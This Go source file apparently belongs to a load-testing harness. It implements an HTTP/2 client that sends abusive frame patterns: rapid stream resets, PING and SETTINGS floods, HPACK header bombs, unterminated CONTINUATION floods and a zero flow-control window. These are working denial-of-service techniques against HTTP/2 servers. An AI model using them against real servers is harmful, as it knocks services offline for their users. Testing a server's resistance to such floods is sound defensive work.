package load

import (
	"bufio"
	"bytes"
	"context"
	"encoding/binary"
	"errors"
	"io"
	"net"
	"net/http"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// Flood is an HTTP/2 connection for frames that no well-behaved client sends. It is used by one goroutine. Its methods
// return an error when the server has closed the connection.
type Flood struct {
	conn    net.Conn
	buffer  *bufio.Writer
	framer  *http2.Framer
	block   bytes.Buffer
	encoder *hpack.Encoder
	stream  uint32        // last one opened
	ended   chan struct{} // closed when the server has closed the connection; nil: nothing is read
}

// DialFlood connects to a server without TLS. With read it reads and discards the server's frames; otherwise it never
// reads.
func DialFlood(ctx context.Context, addr string, read bool) (*Flood, error) {
	conn, err := new(net.Dialer).DialContext(ctx, "tcp", addr)
	if err != nil {
		return nil, err
	}
	return NewFlood(conn, read)
}

// NewFlood begins HTTP/2 on a connection, as DialFlood does. It closes the connection if it fails.
func NewFlood(conn net.Conn, read bool) (*Flood, error) {
	c := &Flood{conn: conn, buffer: bufio.NewWriterSize(conn, 64<<10)}
	c.framer = http2.NewFramer(c.buffer, nil)
	c.encoder = hpack.NewEncoder(&c.block)
	if read {
		c.ended = make(chan struct{})
		go func() {
			defer close(c.ended)
			_, _ = io.Copy(io.Discard, conn) // any error is the end
		}()
	}
	_, err := c.buffer.WriteString(http2.ClientPreface)
	if err = errors.Join(err, c.framer.WriteSettings(), c.framer.WriteSettingsAck(), c.buffer.Flush()); err != nil {
		c.Close()
		return nil, err
	}
	return c, nil
}

// Close closes the connection.
func (c *Flood) Close() {
	_ = c.conn.Close() // the server may have closed it
	if c.ended != nil {
		<-c.ended
	}
}

// Ended returns a channel that is closed when the server has closed the connection. It requires a connection that was
// dialed with read.
func (c *Flood) Ended() <-chan struct{} { return c.ended }

// Gets opens n streams, each with a GET of a path.
func (c *Flood) Gets(path string, n int) error {
	return c.repeat(n, func() error { return c.get(path) })
}

// Calls opens n streams, each with a gRPC call of a method with an encoded message.
func (c *Flood) Calls(method string, message []byte, n int) error {
	data := append(binary.BigEndian.AppendUint32([]byte{0}, uint32(len(message))), message...)
	return c.post(method, data, n, hpack.HeaderField{Name: "content-type", Value: "application/grpc"},
		hpack.HeaderField{Name: "te", Value: "trailers"})
}

// Posts opens n streams, each with a POST of JSON to a path.
func (c *Flood) Posts(path string, body []byte, n int) error {
	return c.post(path, body, n, hpack.HeaderField{Name: "content-type", Value: "application/json"})
}

func (c *Flood) post(path string, body []byte, n int, more ...hpack.HeaderField) error {
	return c.repeat(n, func() error {
		c.encode(append(requestHeaders(http.MethodPost, path), more...))
		first := http2.HeadersFrameParam{StreamID: c.next(), BlockFragment: c.block.Bytes(), EndHeaders: true}
		if err := c.framer.WriteHeaders(first); err != nil {
			return err
		}
		return c.framer.WriteData(c.stream, true, body)
	})
}

// Resets opens n streams, each with a GET of a path, and resets each at once.
func (c *Flood) Resets(path string, n int) error {
	return c.repeat(n, func() error {
		if err := c.get(path); err != nil {
			return err
		}
		return c.framer.WriteRSTStream(c.stream, http2.ErrCodeCancel)
	})
}

// Pings sends n PING frames.
func (c *Flood) Pings(n int) error {
	return c.repeat(n, func() error { return c.framer.WritePing(false, [8]byte{}) })
}

// Settings sends n SETTINGS frames.
func (c *Flood) Settings(n int) error {
	return c.repeat(n, func() error {
		return c.framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1 << 16})
	})
}

// Bombs opens n streams, each with a GET of a path, whose headers are larger by orders of magnitude than they are on
// the wire: size references of a byte to one header.
func (c *Flood) Bombs(path string, n, size int) error {
	const newest = 0x80 | 62 // the reference to the header that was added last to the table
	return c.repeat(n, func() error {
		c.headers(path)
		_ = c.encoder.WriteField(hpack.HeaderField{Name: "x-bomb", Value: ""}) // to a buffer
		c.block.Write(bytes.Repeat([]byte{newest}, size))
		return c.framer.WriteHeaders(http2.HeadersFrameParam{
			StreamID: c.next(), BlockFragment: c.block.Bytes(), EndStream: true, EndHeaders: true,
		})
	})
}

// CloseWindow forbids the server to send data on streams, now and later.
func (c *Flood) CloseWindow() error {
	return c.repeat(1, func() error {
		return c.framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
	})
}

// Continuations opens a stream whose headers have no end: n CONTINUATION frames with a header of 1 KiB each.
func (c *Flood) Continuations(path string, n int) error {
	c.headers(path)
	first := http2.HeadersFrameParam{StreamID: c.next(), BlockFragment: c.block.Bytes(), EndStream: true}
	if err := c.framer.WriteHeaders(first); err != nil {
		return err
	}
	value := string(bytes.Repeat([]byte("x"), 1<<10))
	return c.repeat(n, func() error {
		c.block.Reset()
		_ = c.encoder.WriteField(hpack.HeaderField{Name: "x-flood", Value: value, Sensitive: true}) // to a buffer
		return c.framer.WriteContinuation(c.stream, false, c.block.Bytes())
	})
}

func (c *Flood) repeat(n int, send func() error) error {
	for range n {
		if err := send(); err != nil {
			return err
		}
	}
	return c.buffer.Flush()
}

func (c *Flood) get(path string) error {
	c.headers(path)
	return c.framer.WriteHeaders(http2.HeadersFrameParam{
		StreamID: c.next(), BlockFragment: c.block.Bytes(), EndStream: true, EndHeaders: true,
	})
}

// next returns the ID of the next stream, which is odd for a client.
func (c *Flood) next() uint32 {
	if c.stream++; c.stream > 1 {
		c.stream++
	}
	return c.stream
}

func (c *Flood) headers(path string) { c.encode(requestHeaders(http.MethodGet, path)) }

func requestHeaders(method, path string) []hpack.HeaderField {
	return []hpack.HeaderField{
		{Name: ":method", Value: method}, {Name: ":scheme", Value: "http"}, {Name: ":authority", Value: "localhost"},
		{Name: ":path", Value: path},
	}
}

// encode encodes the headers of a request.
func (c *Flood) encode(headers []hpack.HeaderField) {
	c.block.Reset()
	for _, f := range headers {
		_ = c.encoder.WriteField(f) // to a buffer
	}
}
